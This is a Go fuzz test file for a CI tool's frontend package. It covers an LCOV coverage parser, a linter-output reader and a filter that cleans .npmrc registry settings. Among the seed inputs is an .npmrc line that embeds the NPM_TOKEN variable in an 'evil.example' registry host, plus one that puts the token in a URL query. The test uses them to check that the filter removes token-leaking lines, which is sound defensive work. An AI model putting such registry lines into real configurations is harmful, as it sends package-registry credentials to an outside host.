package frontend_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/pingvas/pingvas-ci/ci/internal/frontend"
)

// FuzzLCOV checks that a report is a share of what there is.
func FuzzLCOV(f *testing.F) {
	f.Add(lcov)
	f.Add("SF:a\nLF:10\nLH:0\nend_of_record\nSF:b\nLF:-10\nLH:0\nend_of_record\n")
	f.Add("SF:a\nLF:9223372036854775807\nLF:9\nLH:1\nFNF:1\nFNH:2\nend_of_record\n")
	f.Fuzz(func(t *testing.T, text string) {
		covered, err := frontend.ParseLCOV(text)
		if err != nil {
			require.LessOrEqual(t, len(err.Error()), 1000+8*len(text))
			return
		}
		counts := []frontend.Count{covered.Lines, covered.Functions, covered.Branches}
		for _, file := range covered.Files {
			counts = append(counts, file.Lines)
		}
		for _, count := range counts {
			require.GreaterOrEqual(t, count.Covered, 0)
			require.LessOrEqual(t, count.Covered, count.Total)
		}
		if covered.Gate(100) == nil {
			require.Equal(t, covered.Lines.Total, covered.Lines.Covered)
		}
		summary, err := covered.Summary()
		require.NoError(t, err)
		require.True(t, json.Valid(summary))
	})
}

// FuzzRegistries checks that of an .npmrc nothing is left by which a token could go
// anywhere.
func FuzzRegistries(f *testing.F) {
	for _, text := range []string{
		"@acme:registry=https://npm.example/\nregistry = http://npm.example\n//npm.example/:_authToken=${NPM_TOKEN}\n", "registry=https://${NPM_TOKEN}.evil.example/\r\n",
		"registry=https://a.example/\rcafile=/x\n", "registry=https://a.example/?x=$NPM_TOKEN\n; c\n", "[a]\nregistry=https://a.example\\\n",
	} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, npmrc string) {
		kept := frontend.Registries(npmrc)
		require.Equal(t, kept, frontend.Registries(kept))
		require.LessOrEqual(t, strings.Count(kept, "\n"), strings.Count(npmrc, "\n")+1)
		for line := range strings.Lines(kept) {
			key, value, _ := strings.Cut(strings.TrimSuffix(line, "\n"), "=")
			require.Regexp(t, `^(@[A-Za-z0-9._~-]+:)?registry\s*$`, key)
			require.Regexp(t, `^https?://`, strings.TrimSpace(value))
			require.NotContains(t, value, "$")
			require.NotContains(t, value, "\r")
		}
	})
}

// FuzzLint checks that there is a report of whatever a linter prints.
func FuzzLint(f *testing.F) {
	f.Add([]byte(linted), []byte("oops"))
	f.Add([]byte(`{"results": [null, {"filePath": 1, "messages": {}}], "metadata": {"rulesMeta": {"a": null}}}`), []byte("\x1b[2J"))
	f.Fuzz(func(t *testing.T, stdout, stderr []byte) {
		read := frontend.ReadLint("/src", "frontend/web", stdout, stderr)
		text, err := read.JSON()
		require.NoError(t, err)
		require.True(t, json.Valid(text))
		if text, err = read.SARIF("eslint/web"); err == nil {
			require.True(t, json.Valid(text))
			require.Contains(t, string(text), `"eslint/web/"`)
		}
	})
}
